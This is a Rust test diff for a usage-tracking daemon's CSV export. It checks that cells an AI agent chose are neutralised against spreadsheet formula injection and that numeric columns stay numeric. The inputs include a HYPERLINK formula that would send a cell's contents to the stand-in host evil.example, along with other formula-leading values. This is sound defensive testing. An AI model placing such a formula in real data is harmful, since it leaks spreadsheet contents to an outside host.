@@ -718,6 +718,107 @@ fn export_csv_and_jsonl_have_one_line_per_event() {
     assert!(bad.stderr.contains("RFC 3339"), "{}", bad.stderr);
 }
 
+/// The cells of a CSV text (RFC 4180: quoted cells may hold `,`, `""` and line breaks).
+fn csv_records(text: &str) -> Vec<Vec<String>> {
+    let (mut records, mut record, mut cell) = (Vec::new(), Vec::new(), String::new());
+    let (mut quoted, mut chars) = (false, text.chars().peekable());
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') if cell.is_empty() => quoted = true,
+            (false, ',') => record.push(std::mem::take(&mut cell)),
+            (false, '\n') => {
+                record.push(std::mem::take(&mut cell));
+                records.push(std::mem::take(&mut record));
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    assert!(
+        !quoted && cell.is_empty() && record.is_empty(),
+        "CSV ends mid-line"
+    );
+    records
+}
+
+#[test]
+fn exported_csv_shows_agent_chosen_formulas_as_text_and_keeps_numbers_numbers() {
+    let d = Daemon::start_with_config(TEAM_POLICY);
+    let mut c = d.client();
+    let link = r#"=HYPERLINK("http://evil.example/?d="&A1,"click")"#;
+    let a = c.call(
+        json!({"op":"record","event_id":link,"labels":{"team":"+SUM(1;2)"},
+                          "model":"@evil","usage":{"input_tokens":1}}),
+    );
+    assert_eq!(a["ok"], true, "{a}");
+    let r = c.call(
+        json!({"op":"reserve","reservation_id":"-2+3","labels":{"team":"a"},
+                          "model":"gpt-4o","estimate":{"input_tokens":1,"max_output_tokens":1}}),
+    );
+    assert_eq!(r["ok"], true, "{r}");
+
+    let csv = d.cli(&["export", "--format", "csv"]).ok().stdout;
+    assert!(
+        csv.contains(r#","'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")","#),
+        "neutralised, then quoted as CSV requires:\n{csv}"
+    );
+    let records = csv_records(&csv);
+    let header = &records[0];
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let usage = records
+        .iter()
+        .find(|r| r[column("type")] == "usage_recorded")
+        .unwrap();
+    assert_eq!(usage[column("event_id")], format!("'{link}"));
+    assert_eq!(usage[column("model")], "'@evil");
+    assert!(
+        usage[column("labels")].contains("team=+SUM(1;2)"),
+        "{usage:?}"
+    );
+    let hold = records
+        .iter()
+        .find(|r| r[column("type")] == "reservation_created")
+        .unwrap();
+    assert_eq!(hold[column("reservation_id")], "'-2+3");
+    // No cell a spreadsheet would run as a formula; the daemon's numbers stay plain numbers.
+    let numbers = [
+        "seq",
+        "ts",
+        "actor_uid",
+        "actor_gid",
+        "actor_pid",
+        "input_tokens",
+        "output_tokens",
+        "cached_input_tokens",
+        "cache_write_tokens",
+        "requests",
+        "cost_micros",
+        "cost_usd",
+        "price_version",
+        "hold_micros",
+    ];
+    for record in &records[1..] {
+        assert_eq!(record.len(), header.len(), "{record:?}");
+        for (name, cell) in header.iter().zip(record) {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{name} = {cell:?} would run as a formula"
+            );
+            if numbers.contains(&name.as_str()) && !cell.is_empty() {
+                assert!(
+                    cell.parse::<f64>().is_ok(),
+                    "{name} = {cell:?} is not a number"
+                );
+            }
+        }
+    }
+}
+
 #[test]
 fn verify_and_offline_mode_agree_with_the_daemon() {
     let mut d = Daemon::start_with_config(TEAM_POLICY);
